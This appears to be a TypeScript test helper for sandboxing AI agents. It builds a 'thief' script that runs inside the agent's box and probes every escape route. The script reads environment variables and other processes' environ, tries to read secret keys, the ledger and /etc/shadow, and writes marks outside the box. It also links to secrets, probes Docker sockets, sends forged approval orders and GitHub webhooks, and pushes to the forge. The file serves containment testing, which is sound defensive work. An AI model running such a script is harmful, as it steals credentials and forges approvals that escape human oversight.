/**
 * An agent that tries every door of the machine it runs on, and prints what it found behind each.
 */
import { socketPath } from '../../../../app/control-socket.ts';
import type { Product } from '../../../support/product.ts';

export type Loot = {
  environment: string;
  processes: string;
  files: string[];
  listed: string[];
  written: string[];
  linked: string[];
  signalled: string[];
  debugged: string[];
  socket: string[];
  webhook: number[];
  forge: number[];
  push: { code: number | null; said: string };
  docker: string[];
};

/** What it is told beforehand; an agent could guess all of it. */
export type Doors = {
  dataDir: string;
  dir: string;
  other: string;
  pid: number;
  sockets: string[];
  address: string;
  forge: string;
  run: string;
};
export const doorsOf = (product: Product, otherRun: string): Doors => ({
  dataDir: product.dataDir,
  dir: product.dir,
  other: `${product.dataDir}/runs/${otherRun}`,
  pid: product.pid(),
  sockets: [socketPath(product.dataDir)],
  address: product.address(),
  forge: product.github.url,
  run: otherRun,
});

/** What it writes wherever it can. */
export const MARK = 'mark-of-the-thief';

/** Runs inside the box, so it has nothing of ours to import. */
const steals = `const MARK = '${MARK}';\n${String.raw`
import fs from 'node:fs'; import net from 'node:net'; import http from 'node:http';
import { spawnSync } from 'node:child_process'; import path from 'node:path';
const d = JSON.parse(fs.readFileSync('doors.json', 'utf8'));
const quiet = (f, other) => { try { return f() } catch (e) { return other } };
const could = (items, f) => items.filter((item) => quiet(() => (f(item), true), false));
const read = (at) => quiet(() => fs.readFileSync(at, 'latin1'), '');
const ask = (options, body) => new Promise((done) => {
  const r = http.request(options, (a) => { let t = ''; a.on('data', (c) => (t += c)).on('end', () => done({ status: a.statusCode, text: t })) });
  r.on('error', (e) => done({ status: 0, text: String(e.code) })); r.setTimeout(3000, () => r.destroy()); r.end(body) });
const secrets = ['ledger.db', 'ledger.db-wal', 'keys/seal.key', 'askpass'].map((n) => d.dataDir + '/' + n);
const outside = [...secrets, d.dir + '/agentpr.config.json', d.other + '/ws/README.md', d.other + '/home/x', d.other + '/git/config',
  '/etc/agentpr-hostile', '/usr/bin/agentpr-hostile', process.cwd() + '/../../../ledger.db', process.cwd() + '/../git/config'];
const loot = {
  environment: JSON.stringify(process.env),
  processes: fs.readdirSync('/proc').filter((n) => /^\d+$/.test(n)).map((n) => read('/proc/' + n + '/environ') + read('/proc/' + n + '/cmdline')).join('\n'),
  files: could([...secrets, d.dir + '/agentpr.config.json', d.dir + '/.env', d.other + '/ws/README.md', d.other + '/git/HEAD', '/etc/shadow', '/proc/' + d.pid + '/mem'],
    (at) => { if (fs.readFileSync(at).length === 0) throw new Error('empty') }),
  listed: quiet(() => fs.readdirSync(d.dataDir), []).concat(quiet(() => fs.readdirSync(d.dataDir + '/runs'), [])),
  written: could(outside, (at) => fs.appendFileSync(at, MARK)),
  linked: [],
  signalled: could([d.pid, process.ppid === 1 ? d.pid : -1].filter((p) => p > 1), (pid) => process.kill(pid, 0)),
  debugged: could([d.pid], (pid) => fs.openSync('/proc/' + pid + '/mem', 'r+')),
  docker: could(['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'], (at) => fs.statSync(at)),
};
for (const at of secrets) {
  const name = path.basename(at);
  quiet(() => fs.symlinkSync(at, 'soft-' + name)); quiet(() => fs.linkSync(at, 'hard-' + name));
  for (const link of ['soft-' + name, 'hard-' + name]) {
    const held = quiet(() => (fs.appendFileSync(link, ''), fs.readFileSync(link, 'latin1')), '');
    // Its own words, in a /tmp of its own, are no loot.
    if (held.replaceAll(MARK, '') !== '') loot.linked.push(link);
    quiet(() => fs.unlinkSync(link));
  }
}
const order = { runId: d.run, key: 'stolen', input: { type: 'command.pr.approve', approval: 'x', digest: 'x', by: { id: '1001', name: 'Ana' } } };
loot.socket = [];
for (const socketPath of new Set(d.sockets)) {
  const answer = await ask({ socketPath, method: 'POST', path: '/order', headers: { 'content-type': 'application/json' } }, JSON.stringify(order));
  if (answer.status !== 0) loot.socket.push(socketPath + ' ' + answer.status);
}
loot.webhook = []; loot.forge = [];
const merged = JSON.stringify({ action: 'closed', pull_request: { number: 1, merged: true } });
for (const signature of ['', 'sha256=' + '0'.repeat(64)]) {
  const headers = { 'content-type': 'application/json', 'x-github-event': 'pull_request', 'x-github-delivery': 'forged' + signature.length, ...(signature ? { 'x-hub-signature-256': signature } : {}) };
  const u = new URL(d.address + '/webhooks/github');
  loot.webhook.push((await ask({ hostname: u.hostname, port: u.port, path: u.pathname, method: 'POST', headers }, merged)).status);
}
for (const [method, at] of [['POST', '/repos/acme/thief/pulls'], ['PUT', '/repos/acme/thief/pulls/1/merge']]) {
  const u = new URL(d.forge + at);
  loot.forge.push((await ask({ hostname: u.hostname, port: u.port, path: u.pathname, method, headers: { 'content-type': 'application/json' } }, '{"title":"x","head":"x","base":"main"}')).status);
}
spawnSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@y', 'commit', '-qam', 'mine', '--allow-empty']);
const pushed = spawnSync('git', ['push', d.forge + '/acme/thief.git', 'HEAD:refs/heads/stolen'], { encoding: 'utf8', timeout: 20000 });
loot.push = { code: pushed.status, said: pushed.stderr };
console.log('LOOT ' + JSON.stringify(loot));
`}`;

export const thief = (doors: Doors) => ({
  base: { 'steals.mjs': steals, 'doors.json': JSON.stringify(doors) },
  script: 'node steals.mjs; echo more >>README.md',
});

export const lootIn = (printed: string): Loot => {
  const line = printed.split('\n').find((l) => l.startsWith('LOOT '));
  if (line === undefined) throw new Error(`The thief did not get to the end:\n${printed.slice(-2000)}`);
  return JSON.parse(line.slice(5)) as Loot;
};
